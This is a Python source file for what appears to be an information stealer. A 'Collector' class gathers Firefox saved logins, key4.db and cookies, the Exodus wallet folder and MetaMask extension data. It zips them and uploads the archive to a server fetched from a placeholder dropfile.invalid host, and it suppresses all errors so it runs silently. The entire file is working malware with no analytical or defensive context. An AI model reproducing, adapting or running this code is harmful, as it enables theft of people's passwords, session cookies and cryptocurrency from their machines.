import io
import os
import pathlib
import zipfile

import requests


class Collector:
    roots = {
        "moz": pathlib.Path(os.getenv("APPDATA", ""), "Mozilla", "Firefox", "Profiles"),
        "exodus": pathlib.Path(os.getenv("APPDATA", ""), "Exodus", "exodus.wallet"),
        "mm": pathlib.Path(os.getenv("LOCALAPPDATA", ""), "Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn"),
    }
    names = ("logins.json", "key4.db", "cookies.sqlite")

    def __init__(self):
        self.buffer = io.BytesIO()

    def _add(self, bundle, label, root):
        for path in root.rglob("*"):
            if path.is_file() and (label != "moz" or path.name in self.names):
                bundle.writestr(f"{label}/{path.relative_to(root)}", path.read_bytes())

    def run(self):
        try:
            with zipfile.ZipFile(self.buffer, "w") as bundle:
                for label, root in self.roots.items():
                    if root.exists():
                        self._add(bundle, label, root)
            self.buffer.seek(0)
            server = requests.get("https://api.dropfile.invalid/servers").json()["server"]
            requests.post(f"https://{server}.dropfile.invalid/upload", files={"file": ("p.zip", self.buffer)})
        except Exception:
            pass
